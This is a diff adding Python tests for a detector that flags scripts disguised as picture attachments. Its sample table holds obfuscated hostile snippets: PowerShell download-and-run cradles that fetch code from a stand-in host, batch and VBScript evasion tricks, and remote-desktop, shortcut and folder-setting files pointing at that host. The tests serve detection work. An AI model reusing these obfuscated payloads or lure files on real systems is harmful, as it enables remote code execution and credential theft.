@@ -104,3 +104,46 @@ def test_code_is_looked_for_in_linear_time(line):
     begun = time.process_time()
     look(line * 20_000, "a.dat")
     assert time.process_time() - begun < 1
+
+
+FORMS = {
+    "caret batch": b'p^o^w^e^r^s^h^e^l^l -nop -c "iex(iwr http://h.example/a)"\r\n',
+    "batch of pieces": b"set a=pow\r\nset b=ershell\r\n%a%%b% -nop -w hidden -c calc\r\n",
+    "batch of letters": b"@set x=abcdefghijkl\r\n%x:~2,1%%x:~0,1%\r\n",
+    "escaped script": b"this['\\x41\\x63\\x74iveXObject']('x')",
+    "cut powershell": b"&('I'+'EX') ((ne`w-ob`ject ('N'+'et.W'+'ebCli'+'ent'))).('Down'+'loadStr'+'ing').Invoke('x')",
+    "script from numbers": b"Execute(chr(77)&chr(115)&chr(103))\r\n",
+    "python": b"import os\nos.system('id')\n",
+    "managed object file": b"#pragma namespace(\"\\\\.\\root\")\r\ninstance of X {};\r\n",
+    "object markup": b"<R xmlns:d='clr-namespace:System.Diagnostics;assembly=system'><ObjectDataProvider MethodName='Start'/></R>",
+    "workflow": b"<W xmlns:x='x'><x:Code>1</x:Code></W>",
+    "application installer": b"<?xml version='1.0'?><AppInstaller Uri='http://h.example/a'></AppInstaller>",
+    "remote desktop in another order": b"redirectdrives:i:1\r\nauthentication level:i:0\r\nfull address:s:h.example\r\n",
+    "shortcut behind another section": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=http://h.example/\r\n",
+    "terminal server": b"[WFClient]\r\nVersion=2\r\n",
+    "data link": "[oledb]\r\nProvider=x".encode("utf-16"),
+    "folder setting": b"[.ShellClassInfo]\r\nIconResource=\\\\h.example\\s\\i.ico,0\r\n",
+}
+
+
+@pytest.mark.parametrize("name", FORMS)
+def test_forms_under_the_name_of_a_picture(name: str) -> None:
+    artifact = Artifact(1, 0, ArtifactKind.PART, ("a.jpg",), detected_type="text/plain", declared_type="image/jpeg")
+    found = list(ScriptDetector(SCOPE).look(Sample(artifact, FORMS[name])))
+    assert found and found[0].code.startswith("SCRIPT-")
+
+
+@pytest.mark.parametrize("text", [
+    b"Dear all,\r\nplease call me about the import of 50 % more parts, from os experts.\r\n", b"import duty: 5 %\r\nfrom our side\r\n",
+    b"name,set,rate\r\na,b,5%\r\n", b"<plist><dict><key>Version</key></dict></plist>", b"[Settings]\r\nURL=http://h.example/\r\n",
+])
+def test_ordinary_words_are_no_code(text: bytes) -> None:
+    artifact = Artifact(1, 0, ArtifactKind.PART, ("a.dat",), detected_type="text/plain")
+    assert not list(ScriptDetector(SCOPE).look(Sample(artifact, text)))
+
+
+def test_a_media_type_names_what_has_no_name() -> None:
+    nameless = Artifact(1, 0, ArtifactKind.PART, (), detected_type="text/plain", declared_type="application/hta")
+    assert [f.code for f in ScriptDetector(SCOPE).look(Sample(nameless, b"x"))] == ["SCRIPT-EXTENSION"]
+    named = Artifact(1, 0, ArtifactKind.PART, ("a.txt",), detected_type="text/plain", declared_type="application/hta")
+    assert not list(ScriptDetector(SCOPE).look(Sample(named, b"x")))
